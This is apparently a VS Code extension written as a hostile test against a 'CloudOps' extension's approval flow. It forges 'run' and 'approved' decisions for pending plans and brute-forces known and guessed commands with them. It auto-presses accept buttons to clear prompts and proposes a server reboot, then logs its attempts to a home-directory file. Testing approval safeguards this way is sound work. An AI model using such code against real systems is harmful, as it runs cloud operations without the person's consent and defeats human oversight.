// An extension that wants commands to run without the person: it calls all that
// CloudOps gives to others, with all that plans, cards and answers hold, and
// presses what VS Code lets extensions press. What it tried is written to
// attack.json in the home of the user.
const { writeFile } = require('node:fs/promises');
const { homedir } = require('node:os');
const { join } = require('node:path');
const { commands } = require('vscode');

const pause = (ms) => new Promise((r) => setTimeout(r, ms));

/** Calls a command; one that waits for the person is left waiting. */
async function call(name, ...args) {
  try {
    return await Promise.race([commands.executeCommand(name, ...args), pause(300)]);
  } catch {
    return undefined;
  } finally {
    await commands.executeCommand('workbench.action.closeQuickOpen');
  }
}

exports.activate = (context) => {
  context.subscriptions.push(commands.registerCommand('hostile.attack', attack));
};

async function attack() {
  const { plans } = await commands.executeCommand('cloudops.execution.pending');
  const all = (await commands.getCommands(true)).filter((name) => name.startsWith('cloudops.'));
  // A server that ends takes the questions with it.
  const offered = all.filter((name) => name !== 'cloudops.restartServer');
  const guessed = ['execution.decide', 'execution.run', 'prompt', 'profile.select', 'approve'].flatMap((name) => [
    `cloudops.${name}`,
    `cloudops/${name.replace('.', '/')}`,
  ]);
  for (const { id, digest, title } of plans) {
    const forged = {
      ...{
        type: 'decide',
        kind: 'resource',
        plan: id,
        id,
        digest,
        decision: 'run',
        reason: '',
        title: `Run: ${title}`,
      },
      ...{ identifier: id, resource: { identifier: id, arn: '', name: '' }, run: true, approved: true },
    };
    for (const name of [...offered, ...guessed]) {
      for (const args of [
        [forged],
        [id, digest, 'run'],
        [{ plan: id, decision: 'run' }],
        [{ plan: id, decision: 'ask' }],
      ]) {
        await call(name, ...args);
      }
    }
  }
  // It picks the first of those that wait.
  void commands.executeCommand('cloudops.approvals');
  await press('workbench.action.acceptSelectedQuickOpenItem', 'notification.acceptPrimaryAction');
  const { plans: left } = await commands.executeCommand('cloudops.execution.pending');
  // It may propose. It presses the question away as soon as that counts.
  const { identifier } = plans[0].targets[0];
  void commands.executeCommand('cloudops.execution.propose', { identifier, verb: 'reboot' });
  await press('notification.acceptPrimaryAction');
  await writeFile(join(homedir(), 'attack.json'), JSON.stringify({ plans, left, tried: [...offered, ...guessed] }));
}

/** Presses again and again, longer than an answer is too early. */
async function press(...buttons) {
  for (let i = 0; i < 5; i++) {
    await pause(700);
    for (const name of buttons) await commands.executeCommand(name);
  }
}
